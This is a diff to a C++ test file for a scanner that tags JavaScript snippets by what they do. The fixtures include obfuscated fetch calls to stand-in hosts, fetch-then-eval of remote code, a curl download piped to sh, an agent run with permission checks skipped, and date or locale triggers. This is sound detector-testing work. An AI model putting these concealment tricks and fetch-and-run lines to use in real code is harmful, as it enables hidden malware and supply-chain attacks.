@@ -65,14 +65,14 @@ TEST(CodeReading, PutsWordsTogether) {
   expect_all({
       {"fetch(['https:', '', 'a.example'].join('/'))", "network a.example"},
       {"fetch('elpmaxe.a//:sptth'.split('').reverse().join(''))", "network a.example"},
-      {"fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUv'))", "network a.example"},
+      {"fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUv'))", "concealed-argument network, network a.example"},
       {"fetch(Buffer.from('68747470733a2f2f612e6578616d706c65', 'hex').toString())",
-       "network a.example"},
+       "concealed-argument network, network a.example"},
       {"fetch(String.fromCharCode(104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101))",
-       "network a.example"},
+       "concealed-argument network, network a.example"},
       {"fetch(String.fromCharCode(...[105,117,117,113,59,48,48,98,47,102,121,98,110,113,109,102]"
        ".map(c => c - 1)))",
-       "network a.example"},
+       "concealed-argument network, network a.example"},
       {"const a = ['x', 'example', 'https://', 'a.']; const d = i => a[i - 5]\nfetch(d(7) + d(8) + "
        "d(6))",
        "network a.example"},
@@ -81,12 +81,84 @@ TEST(CodeReading, PutsWordsTogether) {
        "network a.example"},
       {"const o = {}; o.host = 'a.example'; require('https').get(o)", "network"},
       {"fetch('https://a_example'.replace('_', '.'))", "network a.example"},
-      {"fetch(decodeURIComponent('https%3A%2F%2Fa.example'))", "network a.example"},
+      {"fetch(decodeURIComponent('https%3A%2F%2Fa.example'))",
+       "concealed-argument network, network a.example"},
       {"fetch(`https://${process.env.H}.a.example`)", "network *.a.example"},
       {"fetch(process.env.U || 'https://a.example')", "network a.example"},
       {"for (const h of ['a.example', 'b.example']) fetch('https://' + h)",
        "network a.example, network b.example"},
       {"fetch(x)", "network"},
+  });
+}
+
+// What a hidden list of names is for: no order and no loop is run here, and none of them hides what
+// is called.
+TEST(CodeReading, IsNotFooledByNamesThatAreMadeAtRunTime) {
+  expect_all({
+      {"const t = ['get', 'https']; t.push(t.shift()); require(t[0])[t[1]]('https://a.example')",
+       "network a.example"},
+      {"function d(s) { let o = ''; for (let i = 0; i < s.length; i++)\n"
+       "o += String.fromCharCode(s.charCodeAt(i) ^ 5); return o }\n"
+       "require(d('mqqux'))",
+       "dynamic-code decoded"},
+      {"function d(p) { let o = ''; for (const i of p) o += 'abc'[i]; return o }\n"
+       "fetch(d([1, 2]))",
+       "concealed-argument network, network"},
+      {"const d = s => s.split('').filter((_, i) => i % 2 === 0).join('');\n"
+       "fetch(d('hxtxtxpx:x/x/xax.xexxxaxmxpxlxex'))",
+       "network a.example"},
+      {"const w = (...p) => p.map(i => 'htps:/a.exml'[i]).join('');\n"
+       "fetch(w(0, 1, 1, 2, 3, 4, 5, 5, 6, 7, 8, 9, 6, 10, 2, 11, 8))",
+       "network a.example"},
+      {"const d = s => s.replace(/x/g, c => 'y'); require(d('fx'))", "dynamic-code decoded"},
+      {"process[(n => { let o = ''; for (const c of n) o += String.fromCharCode(c); return o "
+       "})([1])]",
+       "environment process"},
+      {"Object.entries(process).find(x)", "environment process"},
+      {"require('https')[x]('https://a.example')", "network"},
+      {"fetch('https://b.example').then(r => r.text()).then(eval)",
+       "dynamic-code fetched, network b.example"},
+      {"class A { constructor() { this.h = require('https') } go() { "
+       "this.h.get('https://a.example') } }\n"
+       "new A().go()",
+       "network a.example"},
+      {"const m = new Map([['h', require('https')]]); m.get('h').get('https://a.example')",
+       "network a.example"},
+      {"const h = { ...require('https') }; h.get('https://a.example')", "network a.example"},
+      {"const r = require.bind(null, 'https'); r().get('https://a.example')", "network a.example"},
+      {"Function.prototype.call.call(fetch, null, 'https://a.example')", "network a.example"},
+      {"require(JSON.parse('{\"a\":\"https\"}').a).get('https://a.example')", "network a.example"},
+      {"require(/https/.source).get('https://a.example')", "network a.example"},
+      {"require(require('util').format('%s', 'https')).get('https://a.example')",
+       "network a.example"},
+      // Twins.
+      {"let o = ''; for (const k of keys) o += k + ','; exports.o = o", ""},
+      {"const a = ['a', 'b']; a.push('c'); exports.a = a.join('-')", ""},
+      {"exports.letters = n => { let o = ''; for (let i = 0; i < n; i++)\n"
+       "o += String.fromCharCode(97 + i); return o }",
+       ""},
+  });
+}
+
+TEST(CodeReading, TellsWhatItWaitsFor) {
+  expect_all({
+      {"if (Date.now() > 1790000000000) x()", "trigger date"},
+      {"if (new Date() > new Date('2026-09-01')) x()", "trigger date"},
+      {"if (new Date().getMonth() === 8) x()", "trigger date"},
+      {"if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'x') y()", "trigger locale"},
+      {"if (/^ru/.test(process.env.LANG)) x()", "trigger locale"},
+      {"require('os').cpus()", "trigger machine"},
+      {"exports.old = t => (Date.now() - t) / 864e5 > 7", ""},
+      {"if (process.env.NODE_ENV === 'production') x()", ""},
+  });
+}
+
+// `await` and `yield` are names in some scripts: what follows is no regular expression there.
+TEST(CodeReading, ReadsOperatorsThatMayBeNamesBothWays) {
+  expect_all({
+      {"var await = 1; x = await/fetch('https://a.example')///;", "network a.example"},
+      {"export default /a//fetch('https://a.example')\n1", "network a.example"},
+      {"async function f() { return await /fetch('https:..b.example')/.exec(x) }", ""},
   });
 }
 
@@ -98,7 +170,7 @@ TEST(CodeReading, FindsProgramsAndWhatTheyDo) {
       {"const {spawn} = require('child_process'); spawn('node', ['x.js'], {detached: true, stdio: "
        "'ignore'})",
        "process node, process-hidden detached"},
-      {"process.binding('spawn_sync').spawn({file: 'ls'})", "process"},
+      {"process.binding('spawn_sync').spawn({file: 'ls'})", "process ls"},
       {"require('child_process').execSync('claude --dangerously-skip-permissions -p hi')",
        "agent-command claude, process claude"},
       {"require('child_process').exec('curl -so /tmp/x https://a.example/x; sh /tmp/x')",
@@ -162,7 +234,7 @@ TEST(CodeReading, FindsSecretsByNameAndPlace) {
       // What everybody does.
       {"if (process.env.NODE_ENV === 'production') x()", ""},
       {"require('child_process').spawn('ls', [], {env: {...process.env, A: 1}})", "process ls"},
-      {"const env = process.env; if (env.CI) x()", ""},
+      {"const env = process.env; if (env.CI) x()", "trigger CI"},
       {"require('fs').readFileSync(__dirname + '/.npmrc')", ""},
       {"throw new Error('put a token into your .npmrc')", ""},
   });
